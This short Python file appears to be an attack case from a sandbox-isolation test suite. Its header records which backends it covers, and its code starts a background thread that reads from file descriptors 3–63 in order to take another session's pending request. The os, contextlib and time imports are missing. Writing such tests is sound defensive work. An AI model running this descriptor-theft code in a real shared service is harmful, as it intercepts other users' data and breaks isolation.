# /// attack
# tries = "reads the next request of its session itself and never answers it"
# zygote = ["ok", "error"]
# bwrap = ["ok", "error"]
# docker = "not covered: runs no sessions"
# rlimit = "not covered"
# control = "none: needs a session"
# session = true
# ///
import threading


def steal():
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.read(number, 1 << 20)
    time.sleep(15)


threading.Thread(target=steal, daemon=True).start()
